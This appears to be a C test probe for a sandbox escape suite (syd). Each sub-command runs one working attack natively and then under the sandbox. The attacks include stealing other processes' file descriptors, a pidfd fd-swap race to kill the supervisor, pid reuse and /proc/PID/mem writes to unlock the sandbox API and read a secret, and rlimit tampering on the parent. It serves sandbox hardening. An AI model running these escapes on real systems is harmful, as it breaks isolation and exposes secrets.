/* Reach probe for the jsyd escape suite (ReachEscapeIT, LockEscapeIT): attacks on processes
 * outside the sandbox (the supervisor, other processes of the same user, another sandbox) and
 * on the initial process's lock:exec rights. One attack per sub-command; each prints result lines
 * the test reads. Run natively first (the attack works), then under syd (it is refused).
 *
 * Result words: "ok" = the call succeeded; an errno name = it failed so; "LEAK ..." = the attack
 * reached what it wanted. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <linux/sockios.h>

#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif
#ifndef SO_PASSPIDFD
#define SO_PASSPIDFD 76
#endif
#ifndef SCM_PIDFD
#define SCM_PIDFD 0x04
#endif

static const char *en(int e) {
    const char *n = strerrorname_np(e);
    return n ? n : "E?";
}

static const char *res(long r) { return r >= 0 ? "ok" : en(errno); }

/* The pid a pidfd names (fdinfo "Pid:"), -1 if none. */
static int pidfd_pid(int fd) {
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/self/fdinfo/%d", fd);
    int f = open(path, O_RDONLY);
    if (f < 0) return -1;
    ssize_t n = read(f, buf, sizeof buf - 1);
    close(f);
    if (n <= 0) return -1;
    buf[n] = 0;
    char *p = strstr(buf, "Pid:");
    return p ? atoi(p + 4) : -1;
}

/* ---- scan: every call that names a task, on numbers next to the parent ----------------------
 * scan N: for each t in ppid+1..ppid+N that is not this process, runs each call on t and counts
 * the answers that tell t apart from a free number (a number above any pid_max).
 * Prints "<call> <count>" per call. Natively the parent's threads (and other processes) are
 * told apart; under syd nothing outside the sandbox may be. */
enum { KILL, TKILL, TGKILL, SIGQUEUE, TGSIGQUEUE, PIDFD_OPEN, PRLIMIT, GETAFFINITY, GETSCHEDULER, GETPARAM,
       GETATTR, RR_INTERVAL, GETPRIORITY, IOPRIO_GET, GETPGID, GETSID, KCMP, ROBUST_LIST, PROC_STATUS, NCALLS };
static const char *NAMES[NCALLS] = {"kill", "tkill", "tgkill", "rt_sigqueueinfo", "rt_tgsigqueueinfo",
    "pidfd_open", "prlimit64", "sched_getaffinity", "sched_getscheduler", "sched_getparam", "sched_getattr",
    "sched_rr_get_interval", "getpriority", "ioprio_get", "getpgid", "getsid", "kcmp", "get_robust_list", "proc"};

static long call(int which, pid_t pp, pid_t t) {
    siginfo_t si;
    memset(&si, 0, sizeof si);
    si.si_code = SI_QUEUE;
    si.si_pid = getpid();
    si.si_uid = getuid();
    char buf[256];
    struct rlimit rl;
    struct timespec ts;
    void *head;
    size_t len;
    cpu_set_t set;
    switch (which) {
        case KILL: return kill(t, 0);
        case TKILL: return syscall(SYS_tkill, t, 0);
        case TGKILL: return syscall(SYS_tgkill, pp, t, 0);
        case SIGQUEUE: return syscall(SYS_rt_sigqueueinfo, t, 0, &si);
        case TGSIGQUEUE: return syscall(SYS_rt_tgsigqueueinfo, pp, t, 0, &si);
        case PIDFD_OPEN: { long fd = syscall(SYS_pidfd_open, t, 0); if (fd >= 0) close((int)fd); return fd; }
        case PRLIMIT: return syscall(SYS_prlimit64, t, RLIMIT_NOFILE, NULL, &rl);
        case GETAFFINITY: return syscall(SYS_sched_getaffinity, t, sizeof set, &set);
        case GETSCHEDULER: return syscall(SYS_sched_getscheduler, t);
        case GETPARAM: return syscall(SYS_sched_getparam, t, buf);
        case GETATTR: return syscall(SYS_sched_getattr, t, buf, 56, 0);
        case RR_INTERVAL: return syscall(SYS_sched_rr_get_interval, t, &ts);
        case GETPRIORITY: errno = 0; { long r = syscall(SYS_getpriority, 0, t); return r < 0 && errno ? -1 : 0; }
        case IOPRIO_GET: return syscall(SYS_ioprio_get, 1, t);
        case GETPGID: return syscall(SYS_getpgid, t);
        case GETSID: return syscall(SYS_getsid, t);
        case KCMP: return syscall(SYS_kcmp, getpid(), t, 0 /* KCMP_FILE */, 0, 0);
        case ROBUST_LIST: return syscall(SYS_get_robust_list, t, &head, &len);
        case PROC_STATUS: {
            snprintf(buf, sizeof buf, "/proc/%d/status", t);
            int fd = open(buf, O_RDONLY);
            if (fd >= 0) close(fd);
            if (fd < 0 && errno == ENOENT) errno = ESRCH; /* absent, as a free number */
            return fd;
        }
    }
    return -1;
}

/* The answer of one call as a number: 0 for success, else the errno. */
static int answer(int which, pid_t pp, pid_t t) {
    errno = 0;
    long r = call(which, pp, t);
    return r >= 0 ? 0 : errno;
}

static int cmd_scan(int n) {
    pid_t pp = getppid(), me = getpid();
    const pid_t FREE = 0x3ffffff0; /* above any pid_max: certainly no task */
    int reach[NCALLS] = {0};
    for (pid_t t = pp + 1; t <= pp + n; t++) {
        if (t == me) continue;
        for (int c = 0; c < NCALLS; c++) if (answer(c, pp, t) != answer(c, pp, FREE)) reach[c]++;
    }
    for (int c = 0; c < NCALLS; c++) printf("%s %d\n", NAMES[c], reach[c]);
    return 0;
}

/* ---- the parent's limits ----------------------------------------------------------------
 * prlimit-parent: sets the parent's RLIMIT_NOFILE to 0 (natively: the parent can no longer open
 * anything), reads it back through prlimit64, sets its RLIMIT_CPU to 1 s, then opens a file. */
static int cmd_prlimit_parent(void) {
    pid_t pp = getppid();
    struct rlimit zero = {0, 0}, now;
    printf("set %s\n", res(syscall(SYS_prlimit64, pp, RLIMIT_NOFILE, &zero, NULL)));
    long r = syscall(SYS_prlimit64, pp, RLIMIT_NOFILE, NULL, &now);
    if (r == 0) printf("parent nofile %llu\n", (unsigned long long)now.rlim_cur);
    else printf("get %s\n", en(errno));
    printf("cpu %s\n", res(syscall(SYS_prlimit64, pp, RLIMIT_CPU, &(struct rlimit){1, 1}, NULL)));
    int fd = open("/etc/hostname", O_RDONLY); /* under syd with reads checked: opened by the supervisor */
    printf("open %s\n", res(fd));
    return 0;
}

/* ---- fd theft ------------------------------------------------------------------------------
 * steal PID FD: takes fd FD of process PID with pidfd_open + pidfd_getfd and reads from it
 * (or, for a socket, writes "STOLEN" into it); then tries /proc/PID/fd/FD. */
static void use_stolen(const char *how, int fd) {
    struct stat st;
    fstat(fd, &st);
    if (S_ISSOCK(st.st_mode)) {
        long w = write(fd, "STOLEN\n", 7);
        printf("%s %s\n", how, w == 7 ? "LEAK wrote" : en(errno));
    } else {
        char buf[64] = {0};
        long r = pread(fd, buf, sizeof buf - 1, 0);
        char *nl = strchr(buf, '\n');
        if (nl) *nl = 0;
        printf("%s %s%s\n", how, r > 0 ? "LEAK " : "", r > 0 ? buf : en(errno));
    }
    close(fd);
}

static int cmd_steal(pid_t pid, int fd) {
    long pfd = syscall(SYS_pidfd_open, pid, 0);
    if (pfd < 0) {
        printf("pidfd_open %s\n", en(errno));
    } else {
        long g = syscall(SYS_pidfd_getfd, pfd, fd, 0);
        if (g < 0) printf("pidfd_getfd %s\n", en(errno));
        else use_stolen("pidfd_getfd", (int)g);
        close((int)pfd);
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    int f = open(path, O_RDONLY);
    if (f < 0) printf("proc_fd %s\n", en(errno));
    else use_stolen("proc_fd", f);
    return 0;
}

/* steal-peer SOCKPATH FD: connects to the UNIX socket SOCKPATH, takes a pidfd of its listener with
 * SO_PEERPIDFD (no pidfd_open needed), then pidfd_getfd(FD) and pidfd_send_signal(0) on it. */
static int cmd_steal_peer(const char *path, int fd) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { printf("connect %s\n", en(errno)); return 1; }
    int pfd = -1;
    socklen_t l = sizeof pfd;
    if (getsockopt(s, SOL_SOCKET, SO_PEERPIDFD, &pfd, &l) != 0) { printf("peerpidfd %s\n", en(errno)); return 1; }
    printf("peerpidfd ok\n");
    long g = syscall(SYS_pidfd_getfd, pfd, fd, 0);
    if (g < 0) printf("pidfd_getfd %s\n", en(errno));
    else use_stolen("pidfd_getfd", (int)g);
    printf("pidfd_send_signal %s\n", res(syscall(SYS_pidfd_send_signal, pfd, 0, NULL, 0)));
    return 0;
}

/* ---- pidfd_send_signal fd swap (docs/ESCAPES.md, open escape 3) ---------------------------
 * pidfd-race SIG SECS: a second thread keeps swapping fd N between a pidfd of a child of ours
 * and a /proc/<parent> directory fd while the main thread sends SIG through fd N. Prints the
 * count of each answer; natively (SIGKILL) the parent dies. */
static atomic_int g_stop;
static int g_slot, g_a, g_b;

static void *swapper(void *arg) {
    (void)arg;
    while (!atomic_load(&g_stop)) {
        dup2(g_a, g_slot);
        dup2(g_b, g_slot);
    }
    return NULL;
}

static int cmd_pidfd_race(int sig, double secs) {
    pid_t pp = getppid();
    pid_t kid = fork();
    if (kid == 0) { for (;;) pause(); }
    char procdir[64];
    snprintf(procdir, sizeof procdir, "/proc/%d", pp);
    g_a = open(procdir, O_RDONLY | O_DIRECTORY);
    if (g_a < 0) { printf("open_procdir %s\n", en(errno)); kill(kid, SIGKILL); return 0; }
    g_b = (int)syscall(SYS_pidfd_open, kid, 0);
    g_slot = 100;
    dup2(g_b, g_slot);
    pthread_t th;
    pthread_create(&th, NULL, swapper, NULL);
    long ok = 0, other = 0;
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    do {
        if (syscall(SYS_pidfd_send_signal, g_slot, sig, NULL, 0) == 0) ok++;
        else other++;
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 < secs);
    atomic_store(&g_stop, 1);
    pthread_join(th, NULL);
    kill(kid, SIGKILL);
    waitpid(kid, NULL, 0);
    printf("sent ok %ld refused %ld\n", ok > 0 ? 1L : 0L, other > 0 ? 1L : 0L);
    printf("parent alive %s\n", kill(pp, 0) == 0 || errno == EACCES || errno == EPERM ? "yes" : "no");
    return 0;
}

/* ---- SIGIO owners ------------------------------------------------------------------------
 * sigio PID: makes PID (and -PID as a group) the SIGIO owner of a socket in every way. */
static int cmd_sigio(pid_t pid) {
    int p[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, p) != 0) return 1;
    printf("setown %s\n", res(fcntl(p[0], F_SETOWN, pid)));
    struct f_owner_ex ex = {F_OWNER_PID, pid};
    printf("setown_ex %s\n", res(fcntl(p[0], F_SETOWN_EX, &ex)));
    struct f_owner_ex tid = {F_OWNER_TID, pid};
    printf("setown_ex_tid %s\n", res(fcntl(p[0], F_SETOWN_EX, &tid)));
    int owner = pid;
    printf("fiosetown %s\n", res(ioctl(p[0], FIOSETOWN, &owner)));
    printf("siocspgrp %s\n", res(ioctl(p[0], SIOCSPGRP, &owner)));
    return 0;
}

/* ---- pid namespaces of our own: a child and its group are reachable -------------------------
 * own: every call of the scan on a child of ours (and its group): all must work. */
static int cmd_own(void) {
    pid_t kid = fork();
    if (kid == 0) { setpgid(0, 0); for (;;) pause(); }
    setpgid(kid, kid);
    int bad = 0;
    for (int c = 0; c < NCALLS; c++) {
        if (c == TGKILL || c == TGSIGQUEUE) {
            long r = c == TGKILL ? syscall(SYS_tgkill, kid, kid, 0) : 0;
            if (r < 0) { printf("%s %s\n", NAMES[c], en(errno)); bad++; }
            continue;
        }
        errno = 0;
        if (call(c, kid, kid) < 0) { printf("%s %s\n", NAMES[c], en(errno)); bad++; }
    }
    if (kill(-kid, 0) != 0) { printf("killpg %s\n", en(errno)); bad++; }
    struct rlimit rl = {64, 64};
    if (syscall(SYS_prlimit64, kid, RLIMIT_NOFILE, &rl, NULL) != 0) { printf("prlimit_set %s\n", en(errno)); bad++; }
    if (setpriority(PRIO_PROCESS, kid, 5) != 0) { printf("setpriority %s\n", en(errno)); bad++; }
    if (setpriority(PRIO_PGRP, kid, 6) != 0) { printf("setpriority_pgrp %s\n", en(errno)); bad++; }
    int p[2];
    socketpair(AF_UNIX, SOCK_STREAM, 0, p);
    if (fcntl(p[0], F_SETOWN, kid) != 0) { printf("setown %s\n", en(errno)); bad++; }
    struct f_owner_ex ex = {F_OWNER_PGRP, kid};
    if (fcntl(p[0], F_SETOWN_EX, &ex) != 0) { printf("setown_ex %s\n", en(errno)); bad++; }
    int owner = -kid;
    if (ioctl(p[0], FIOSETOWN, &owner) != 0) { printf("fiosetown %s\n", en(errno)); bad++; }
    long pfd = syscall(SYS_pidfd_open, kid, 0);
    if (syscall(SYS_pidfd_send_signal, pfd, SIGKILL, NULL, 0) != 0) { printf("pidfd_send_signal %s\n", en(errno)); bad++; }
    int st;
    waitpid(kid, &st, 0);
    printf("own %s %d\n", bad ? "broken" : "all-ok", WIFSIGNALED(st) ? WTERMSIG(st) : -1);
    return 0;
}

/* ---- lock:exec -----------------------------------------------------------------------------
 * lock-reuse SECRET [fast]: the initial process checks the API is there for it, starts a child and
 * exits; the child forks until a new process gets the initial process's pid (with "fast": sets
 * /proc/sys/kernel/ns_last_pid first, which needs CAP_SYS_ADMIN), and that process tries the API
 * (stat /dev/syd/lock:off), then reads SECRET. */
static int try_api_then_read(const char *who, const char *secret) {
    struct stat st;
    printf("%s api %s\n", who, res(stat("/dev/syd/lock:off", &st)));
    char cmd[512];
    snprintf(cmd, sizeof cmd, "/dev/syd/allow/read+%s", secret);
    stat(cmd, &st); /* with the lock off: allow what was denied */
    char buf[64] = {0};
    int fd = open(secret, O_RDONLY);
    if (fd < 0) { printf("%s read %s\n", who, en(errno)); return 0; }
    long n = read(fd, buf, sizeof buf - 1);
    close(fd);
    char *nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    printf("%s read %s%s\n", who, n > 0 ? "LEAK " : "", n > 0 ? buf : "empty");
    return 0;
}

static int cmd_lock_reuse(const char *secret, int fast) {
    pid_t initial = getpid();
    struct stat st;
    printf("initial api %s\n", res(stat("/dev/syd", &st)));
    fflush(stdout);
    pid_t kid = fork();
    if (kid != 0) _exit(0); /* the initial process ends here */
    while (getppid() == initial) usleep(1000);
    /* Wait until the pid is free (the zombie reaped). */
    for (int i = 0; i < 5000 && kill(initial, 0) == 0; i++) usleep(1000);
    long tries = 0;
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (;;) {
        if (fast) {
            int f = open("/proc/sys/kernel/ns_last_pid", O_WRONLY);
            if (f < 0) { printf("ns_last_pid %s\n", en(errno)); return 1; }
            char v[16];
            int n = snprintf(v, sizeof v, "%d", initial - 1);
            if (write(f, v, n) != n) { printf("ns_last_pid %s\n", en(errno)); return 1; }
            close(f);
        }
        pid_t g = fork();
        if (g < 0) { printf("fork %s after %ld\n", en(errno), tries); return 1; }
        if (g == 0) {
            if (getpid() != initial) _exit(0);
            printf("reused pid %d\n", initial);
            try_api_then_read("reuser", secret);
            _exit(0);
        }
        int s;
        waitpid(g, &s, 0);
        tries++;
        if (g == initial) break;
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (t.tv_sec - t0.tv_sec > 120) { printf("no reuse after %ld forks\n", tries); return 1; }
    }
    fprintf(stderr, "reused after %ld forks\n", tries);
    return 0;
}

/* lock-mem SECRET: the initial process (a loop that runs whatever path is in its buffer through
 * stat, i.e. a /dev/syd command) and a child that writes "/dev/syd/lock:off" into that buffer
 * through /proc/PARENT/mem; afterwards both try the API and read SECRET. */
static char g_cmd[64] = "/dev/null";

static int cmd_lock_mem(const char *secret) {
    pid_t parent = getpid();
    struct stat st;
    printf("initial api %s\n", res(stat("/dev/syd", &st)));
    fflush(stdout);
    pid_t kid = fork();
    if (kid == 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", parent);
        int fd = open(path, O_RDWR);
        if (fd < 0) { printf("child mem %s\n", en(errno)); fflush(stdout); _exit(0); }
        static const char cmd[] = "/dev/syd/lock:off";
        long w = pwrite(fd, cmd, sizeof cmd, (off_t)(uintptr_t)g_cmd);
        printf("child mem write %s\n", w == (long)sizeof cmd ? "ok" : en(errno));
        fflush(stdout);
        _exit(0);
    }
    waitpid(kid, NULL, 0);
    /* The parent runs the path in its buffer, as a shell would run a command it was given. */
    printf("parent ran %s %s\n", g_cmd, res(stat(g_cmd, &st)));
    pid_t k2 = fork();
    if (k2 == 0) { try_api_then_read("child", secret); _exit(0); }
    waitpid(k2, NULL, 0);
    return 0;
}

/* ---- credentials of supervisor-made connections -------------------------------------------
 * peer DIR: a listener at DIR/p.sock (this process) and a client (a child) that connects to it
 * (under net/connect the supervisor connects for it) and sends a datagram to DIR/d.sock; prints
 * whose pid SO_PEERCRED, SO_PEERPIDFD, SCM_CREDENTIALS and SCM_PIDFD show: "self" (this
 * process), "child" or "other". */
static const char *who(int pid, int self, int child) {
    return pid == self ? "self" : pid == child ? "child" : pid == 0 ? "none" : "other";
}

static int cmd_peer(const char *dir) {
    int self = getpid();
    struct sockaddr_un sa = {.sun_family = AF_UNIX}, da = {.sun_family = AF_UNIX};
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s/p.sock", dir);
    snprintf(da.sun_path, sizeof da.sun_path, "%s/d.sock", dir);
    int l = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(l, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(l, 4) != 0) { printf("listen %s\n", en(errno)); return 1; }
    int d = socket(AF_UNIX, SOCK_DGRAM, 0);
    int on = 1;
    setsockopt(d, SOL_SOCKET, SO_PASSCRED, &on, sizeof on);
    int pidfds = setsockopt(d, SOL_SOCKET, SO_PASSPIDFD, &on, sizeof on) == 0;
    if (bind(d, (struct sockaddr *)&da, sizeof da) != 0) { printf("bind %s\n", en(errno)); return 1; }
    fflush(stdout);
    pid_t kid = fork();
    if (kid == 0) {
        int c = socket(AF_UNIX, SOCK_STREAM, 0);
        if (connect(c, (struct sockaddr *)&sa, sizeof sa) != 0) _exit(1);
        int s = socket(AF_UNIX, SOCK_DGRAM, 0);
        if (sendto(s, "x", 1, 0, (struct sockaddr *)&da, sizeof da) != 1) _exit(2);
        char b;
        read(c, &b, 1); /* wait for the parent */
        _exit(0);
    }
    int a = accept(l, NULL, NULL);
    struct ucred cr;
    socklen_t len = sizeof cr;
    if (getsockopt(a, SOL_SOCKET, SO_PEERCRED, &cr, &len) == 0) printf("peercred %s\n", who(cr.pid, self, kid));
    else printf("peercred %s\n", en(errno));
    int pfd = -1;
    len = sizeof pfd;
    if (getsockopt(a, SOL_SOCKET, SO_PEERPIDFD, &pfd, &len) == 0) printf("peerpidfd %s\n", who(pidfd_pid(pfd), self, kid));
    else printf("peerpidfd %s\n", en(errno));
    char data[8], ctl[256];
    struct iovec io = {data, sizeof data};
    struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
    if (recvmsg(d, &m, 0) < 0) { printf("recvmsg %s\n", en(errno)); }
    for (struct cmsghdr *c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c)) {
        if (c->cmsg_level != SOL_SOCKET) continue;
        if (c->cmsg_type == SCM_CREDENTIALS) {
            struct ucred u;
            memcpy(&u, CMSG_DATA(c), sizeof u);
            printf("scm_credentials %s\n", who(u.pid, self, kid));
        } else if (c->cmsg_type == SCM_PIDFD) {
            int f;
            memcpy(&f, CMSG_DATA(c), sizeof f);
            printf("scm_pidfd %s\n", who(pidfd_pid(f), self, kid));
        }
    }
    if (!pidfds) printf("scm_pidfd unsupported\n");
    write(a, "y", 1);
    waitpid(kid, NULL, 0);
    return 0;
}

/* sigchld-thread [fork]: a thread made by a raw clone(CLONE_THREAD|CLONE_SIGHAND|CLONE_VM|...)
 * with exit signal SIGCHLD, which ptrace reports as a fork event. Prints "thread TID", then
 * "tgkill RES" for tgkill(our pid, TID, 0) (ok natively: it is our thread) and "pidfd_open RES"
 * (EINVAL natively: no process leads with TID); with "fork", also "fork RES" for a fork made while
 * the thread lives (pid/max counts the thread). The thread then exits, and so do we. */
static atomic_int thread_tid, thread_go;
static char thread_stack[64 * 1024] __attribute__((aligned(16)));

static int sigchld_thread(void *arg) {
    (void)arg;
    atomic_store(&thread_tid, (int)syscall(SYS_gettid));
    while (!atomic_load(&thread_go)) {
        struct timespec ts = {0, 1000000};
        syscall(SYS_nanosleep, &ts, NULL);
    }
    atomic_store(&thread_tid, 0);
    syscall(SYS_exit, 0);
    return 0;
}

static int cmd_sigchld_thread(int fork_too) {
    int flags = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM | SIGCHLD;
    if (clone(sigchld_thread, thread_stack + sizeof thread_stack, flags, NULL) < 0) {
        printf("clone %s\n", en(errno));
        return 1;
    }
    while (!atomic_load(&thread_tid)) usleep(1000);
    int tid = atomic_load(&thread_tid);
    printf("thread %d\n", tid);
    printf("tgkill %s\n", res(syscall(SYS_tgkill, getpid(), tid, 0)));
    long fd = syscall(SYS_pidfd_open, tid, 0);
    printf("pidfd_open %s\n", res(fd));
    if (fd >= 0) close((int)fd);
    if (fork_too) {
        pid_t kid = fork();
        if (kid == 0) _exit(0);
        printf("fork %s\n", res(kid));
        if (kid > 0) waitpid(kid, NULL, 0);
    }
    atomic_store(&thread_go, 1);
    while (atomic_load(&thread_tid)) usleep(1000);
    usleep(20000); /* its exit is over */
    return 0;
}

/* thread-exec [sigchld]: a thread (made by pthread_create, or with "sigchld" as in sigchld-thread:
 * a ptrace fork event) executes this probe again as "former TID PID": the exec gives it the process's pid PID, and its own id TID is gone.
 * The new image prints "pid same" (or "pid changed") and "former RES" for kill(TID, 0). */
static char exec_pid[16];

static void decimal(char *buf, size_t size, int v) {
    char *p = buf + size;
    *--p = 0;
    do *--p = (char)('0' + v % 10); while ((v /= 10) && p > buf);
    memmove(buf, p, (size_t)(buf + size - p));
}

static int exec_thread(void *arg) {
    (void)arg;
    char tid[16];
    decimal(tid, sizeof tid, (int)syscall(SYS_gettid));
    char *args[] = {"/proc/self/exe", "former", tid, exec_pid, NULL};
    syscall(SYS_execve, "/proc/self/exe", args, environ);
    syscall(SYS_exit_group, 127);
    return 0;
}

static void *exec_pthread(void *arg) {
    exec_thread(arg);
    return NULL;
}

static int cmd_thread_exec(int sigchld) {
    decimal(exec_pid, sizeof exec_pid, getpid());
    pthread_t t;
    if (!sigchld) {
        errno = pthread_create(&t, NULL, exec_pthread, NULL);
        if (errno) { printf("pthread_create %s\n", en(errno)); return 1; }
        for (;;) pause();
    }
    int flags = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM | SIGCHLD;
    if (clone(exec_thread, thread_stack + sizeof thread_stack, flags, NULL) < 0) {
        printf("clone %s\n", en(errno));
        return 1;
    }
    for (;;) pause(); /* the thread's exec ends this image */
}

static int cmd_former(int tid, int pid) {
    printf("pid %s\n", getpid() == pid ? "same" : "changed");
    printf("former %s\n", res(kill(tid, 0)));
    return 0;
}

/* thread-fork-crash N: a thread (not the leader) forks N children, one after the other, that
 * each crash with SIGSEGV; prints "crashed K" (children killed by SIGSEGV). */
static int crash_children;

static void *fork_crashers(void *arg) {
    int n = *(int *)arg;
    for (int i = 0; i < n; i++) {
        pid_t kid = fork();
        if (kid == 0) {
            signal(SIGSEGV, SIG_DFL);
            raise(SIGSEGV);
            _exit(1);
        }
        int st;
        if (kid > 0 && waitpid(kid, &st, 0) == kid && WIFSIGNALED(st) && WTERMSIG(st) == SIGSEGV) crash_children++;
    }
    return NULL;
}

static int cmd_thread_fork_crash(int n) {
    pthread_t t;
    pthread_create(&t, NULL, fork_crashers, &n);
    pthread_join(t, NULL);
    printf("crashed %d\n", crash_children);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) return 2;
    const char *c = argv[1];
    if (!strcmp(c, "scan") && argc == 3) return cmd_scan(atoi(argv[2]));
    if (!strcmp(c, "prlimit-parent")) return cmd_prlimit_parent();
    if (!strcmp(c, "steal") && argc == 4) return cmd_steal(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(c, "steal-peer") && argc == 4) return cmd_steal_peer(argv[2], atoi(argv[3]));
    if (!strcmp(c, "pidfd-race") && argc == 4) return cmd_pidfd_race(atoi(argv[2]), atof(argv[3]));
    if (!strcmp(c, "sigio") && argc == 3) return cmd_sigio(atoi(argv[2]));
    if (!strcmp(c, "own")) return cmd_own();
    if (!strcmp(c, "lock-reuse") && argc >= 3) return cmd_lock_reuse(argv[2], argc > 3 && !strcmp(argv[3], "fast"));
    if (!strcmp(c, "lock-mem") && argc == 3) return cmd_lock_mem(argv[2]);
    if (!strcmp(c, "peer") && argc == 3) return cmd_peer(argv[2]);
    if (!strcmp(c, "thread-fork-crash") && argc == 3) return cmd_thread_fork_crash(atoi(argv[2]));
    if (!strcmp(c, "thread-exec")) return cmd_thread_exec(argc > 2 && !strcmp(argv[2], "sigchld"));
    if (!strcmp(c, "former") && argc == 4) return cmd_former(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(c, "sigchld-thread")) return cmd_sigchld_thread(argc > 2 && !strcmp(argv[2], "fork"));
    printf("unknown command\n");
    return 2;
}
